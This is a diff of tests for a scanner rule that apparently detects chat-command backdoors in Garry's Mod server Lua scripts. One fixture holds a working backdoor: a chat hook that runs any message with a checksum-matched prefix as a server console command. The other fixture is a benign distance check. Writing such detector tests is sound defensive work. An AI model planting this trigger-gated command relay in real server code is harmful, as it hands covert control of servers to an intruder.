@@ -141,4 +141,30 @@ describe('chatcommand_backdoor', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('a chat line another hook sees, run in the server console through an entity', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_localchat.lua': [
+        'hook.Add("PlayerCanSeePlayersChat", "range", function(text, teamOnly, listener, speaker)',
+        ' if util.CRC(text:sub(1, 6)) == "64481456" then',
+        '  local relay = ents.Create("point_servercommand")',
+        '  relay:Spawn()',
+        '  relay:Fire("Command", text:sub(7), 0)',
+        ' end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a chat line another hook sees, used for a distance check', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_localchat.lua': [
+        'hook.Add("PlayerCanSeePlayersChat", "range", function(text, teamOnly, listener, speaker)',
+        ' if not IsValid(listener) or not IsValid(speaker) then return end',
+        ' if text:StartWith("/ooc") then return true end',
+        ' return listener:GetPos():DistToSqr(speaker:GetPos()) < 250000',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
